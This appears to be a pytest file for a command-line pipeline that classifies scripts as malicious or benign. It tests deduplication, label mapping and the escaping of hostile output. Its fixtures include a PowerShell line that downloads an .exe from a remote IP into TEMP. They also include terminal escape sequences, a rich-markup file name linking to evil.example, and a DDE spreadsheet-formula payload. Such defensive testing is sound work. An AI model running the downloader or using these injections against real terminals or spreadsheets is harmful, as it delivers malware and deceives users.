"""Hostile records and output injection, through the command line (the readers' own cases are in test_readers.py):
duplicate user ids, odd label spellings, terminal escapes and rich markup in file names and texts, spreadsheet
formulas in CSV output."""
from __future__ import annotations

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.run.records import read_records, text_id

from .conftest import TINY_CONFIG

PS = "$c = New-Object Net.WebClient\n$c.DownloadFile('http://198.51.100.7/a.exe', \"$env:TEMP\\a.exe\")\n"
PY = "import os\nfor name in sorted(os.listdir('.')):\n    print(name, os.path.getsize(name))\n"
SH = "#!/bin/sh\ntar czf backup.tgz /home/user/documents && echo done\n"
JS = "const fs = require('fs');\nfs.readdirSync('.').forEach(f => console.log(f.toUpperCase()));\n"
ESCAPES = ("\x1b", "\x07", "\x9b")  # ESC (CSI, OSC...), BEL (ends OSC titles), the 8-bit CSI
WIDE = {"COLUMNS": "300"}  # rich wraps tables at 80 columns without a terminal; long names would be cut


def _sgpipe(*args, **kwargs):
    return CliRunner().invoke(app, [str(a) for a in args], **kwargs)


def _jsonl(path, rows):
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def _data_stages(run_dir, *inputs, until="dedup", sets=()):
    return _sgpipe("all", "--until", until, "--config", TINY_CONFIG, "--run-dir", run_dir,
                   *sum((["--input", i] for i in inputs), []), "--set", "data.dedup.workers=1",
                   *sum((["--set", s] for s in sets), []), env=WIDE)


def test_duplicate_user_ids_never_merge_different_texts(tmp_path):
    table = _jsonl(tmp_path / "a.jsonl", [
        {"id": "7", "text": PS, "label": "malicious"},
        {"id": "7", "text": PY, "label": "benign"},  # same user id, another script
        {"id": "8", "text": SH, "label": "benign"},
        {"id": "9", "text": SH, "label": "benign"},  # another id, the same script: one record after dedup
    ])
    sheet = tmp_path / "b.csv"
    sheet.write_text(f'id,text,label\n7,"{JS}",benign\n', encoding="utf-8")
    out = _data_stages(tmp_path / "run", table, sheet)
    assert out.exit_code == 0, out.output

    ingested = list(read_records(tmp_path / "run" / "ingest" / "records.jsonl"))
    assert [r.id for r in ingested] == [text_id(t) for t in (PS, PY, SH, SH, JS)]  # the id is the text's hash
    assert [r.source.rsplit("#", 1)[1] for r in ingested] == ["7", "7", "8", "9", "7"]  # the user's id, traceable
    kept = list(read_records(tmp_path / "run" / "dedup" / "records.jsonl"))
    assert sorted(r.text for r in kept) == sorted([PS, PY, SH, JS])
    counts = json.loads((tmp_path / "run" / "dedup" / "manifest.json").read_text())["counts"]
    assert counts["exact_duplicates"] == 1 and counts["near_duplicates"] == 0 and counts["conflicts"] == 0


def test_odd_label_spellings_need_an_explicit_label_map(tmp_path):
    texts = [PS, PY, SH, JS, PS + "# 2\n", PY + "# 3\n", SH + "# 4\n"]
    labels = ["MALICIOUS", " Benign ", "1", "0", 1, "mal", "Malware"]
    table = _jsonl(tmp_path / "t.jsonl", [{"text": t, "label": lab} for t, lab in zip(texts, labels)])

    plain = _data_stages(tmp_path / "plain", table, until="ingest")
    assert plain.exit_code == 0, plain.output
    accepted = list(read_records(tmp_path / "plain" / "ingest" / "records.jsonl"))
    assert [r.label for r in accepted] == ["malicious", "benign"]  # the two labels themselves, in any case
    rejected = [json.loads(l) for l in (tmp_path / "plain" / "ingest" / "rejected.jsonl").read_text().splitlines()]
    assert [r["reason"] for r in rejected] == ["unknown_label"] * 5
    assert all("data.ingest.label_map" in r["detail"] for r in rejected)

    mapping = 'data.ingest.label_map={"1": malicious, "0": benign, MAL: malicious}'
    mapped = _data_stages(tmp_path / "mapped", table, until="ingest", sets=[mapping])
    assert mapped.exit_code == 0, mapped.output
    accepted = list(read_records(tmp_path / "mapped" / "ingest" / "records.jsonl"))
    assert [r.label for r in accepted] == ["malicious", "benign", "malicious", "benign", "malicious", "malicious"]
    rejected = (tmp_path / "mapped" / "ingest" / "rejected.jsonl").read_text().splitlines()
    assert len(rejected) == 1 and "Malware" in rejected[0]  # unmapped spellings are still rejected

    for bad in ('data.ingest.label_map={"1": evil}', "data.ingest.label_map={Benign: malicious}"):
        refused = _data_stages(tmp_path / "bad", table, until="ingest", sets=[bad])
        assert refused.exit_code == 2 and "data.ingest.label_map" in refused.output, refused.output
        assert "Traceback" not in refused.output


# ---- output injection ------------------------------------------------------------------------------------------
NAMES = {  # file name -> what it tries
    "dl\x1b[31m\x1b]0;pwned\x07.ps1": "colour and a window title",
    "ok\x9b2J.sh": "8-bit CSI: clear the screen",
    "[link=evil.example][bold]invoice.pdf.ps1": "rich markup: shown as another name, linking elsewhere",
    "notes.js": "(only its text is hostile)",
}  # a file name cannot hold "/", so the markup that crashes rich ("[/]") comes in a table's `source` below


@pytest.fixture
def hostile_folder(tmp_path):
    """malicious/ and benign/ folders whose names and texts carry terminal escapes and markup, and a binary file."""
    root = tmp_path / "in\x1b[2Jput"
    for i, name in enumerate(NAMES):
        folder = root / ("malicious" if i % 2 == 0 else "benign")
        folder.mkdir(parents=True, exist_ok=True)
        body = [PS, SH, PY, JS][i]
        (folder / name).write_text(body + "# \x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x1b[8m[bold]x[/]\n")
    (root / "malicious" / "bin\x1b[1m.exe").write_bytes(b"MZ\x00\x00\x1b[31m\x00binary")
    _jsonl(root / "meta.jsonl", [{"text": PS + "# meta\n", "label": "malicious", "source": "src\x1b[31m[/]"},
                                 {"text": SH + "# meta\n", "label": "benign", "lang": "\x1b[31mbash"}])
    return root


def _no_raw_escapes(output: str) -> None:
    assert not [c for c in ESCAPES if c in output], repr(output)


def test_stage_summaries_and_status_never_print_raw_escapes(hostile_folder, tmp_path):
    run_dir = tmp_path / "run\x1b[2J[/]"
    out = _data_stages(run_dir, hostile_folder)
    assert out.exit_code == 0, out.output
    assert "[ingest] running" in out.output and "binary" in out.output
    assert "run\\x1b[2J[/]" in out.output.replace("\n", "")  # the path is shown, escaped (and maybe wrapped)
    _no_raw_escapes(out.output)
    status = _sgpipe("status", "--config", TINY_CONFIG, "--run-dir", run_dir, "--input", hostile_folder, env=WIDE)
    assert status.exit_code == 0, status.output
    _no_raw_escapes(status.output)


@pytest.fixture(scope="module")
def classifier(tmp_path_factory):
    """An untrained tiny classifier: what it says does not matter here, only how it is printed."""
    from .model_configs import load_tiny
    from pipeline.model.classifier import Classifier

    model, tokenizer, _ = load_tiny([PS, PY, SH, JS], 64, "full")
    return Classifier.save(model, tokenizer, tmp_path_factory.mktemp("clf") / "clf", base_model=None, max_length=64,
                           head_ratio=0.75)


def test_predict_table_shows_hostile_names_escaped_and_literally(hostile_folder, classifier):
    out = _sgpipe("predict", hostile_folder, "--model", classifier, "--config", TINY_CONFIG, env=WIDE)
    assert out.exit_code == 0, out.output
    _no_raw_escapes(out.output)
    assert "dl\\x1b[31m\\x1b]0;pwned\\x07.ps1" in out.output and "ok\\x9b2J.sh" in out.output
    assert "[link=evil.example][bold]invoice.pdf.ps1" in out.output
    assert "src\\x1b[31m[/]" in out.output and "error: binary" in out.output


def test_predict_csv_neutralises_spreadsheet_formulas(tmp_path, classifier, monkeypatch):
    name = "=cmd|' /C calc'!A0.ps1"  # the classic DDE payload: a folder "=cmd|' " holding "C calc'!A0.ps1"
    (tmp_path / name).parent.mkdir()
    (tmp_path / name).write_text(PS)
    table = _jsonl(tmp_path / "t.jsonl", [{"text": PY, "source": s} for s in ("+1+1", "-2+3", "@SUM(A1)", "\tx")])
    monkeypatch.chdir(tmp_path)  # a relative path, so the location itself starts with "="
    out = _sgpipe("predict", name, table.name, "--model", classifier, "--config", TINY_CONFIG, "--format", "csv")
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.output)))
    assert [r["location"] for r in rows] == ["'" + name, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx"]
    assert all(r["score"] and r["verdict"] in ("malicious", "benign") for r in rows)
